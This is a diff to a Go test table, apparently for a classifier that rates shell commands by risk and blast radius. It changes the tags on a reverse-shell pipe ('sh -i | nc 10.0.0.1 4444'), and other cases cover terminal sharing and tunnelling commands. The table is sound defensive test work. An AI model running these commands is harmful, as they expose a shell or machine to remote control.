@@ -240,7 +240,7 @@ var packCases = map[string][]packCase{
 		{"ttyd -p 7681 bash", risk.Destructive, risk.BlastCritical, []string{"remote.terminal-share"}},
 		{"code tunnel --accept-server-license-terms", risk.Destructive, risk.BlastCritical, []string{"remote.vscode-tunnel"}},
 		{"ngrok http 3000", risk.Destructive, risk.BlastMedium, []string{"remote.port-tunnel"}},
-		{"sh -i | nc 10.0.0.1 4444", risk.Destructive, risk.BlastCritical, []string{"remote.reverse-shell-pipe"}},
+		{"sh -i | nc 10.0.0.1 4444", risk.Destructive, risk.BlastCritical, []string{"effects.unproven", "remote.reverse-shell-pipe"}},
 		{"nc -l 8080", risk.Execute, risk.BlastUnknown, []string{"effects.unproven"}},
 		{"nc -zv localhost 5432", risk.Read, risk.BlastNone, nil},
 		{"echo hi | nc -z example.com 80", risk.Read, risk.BlastNone, nil}, // -z sends nothing, whatever its input
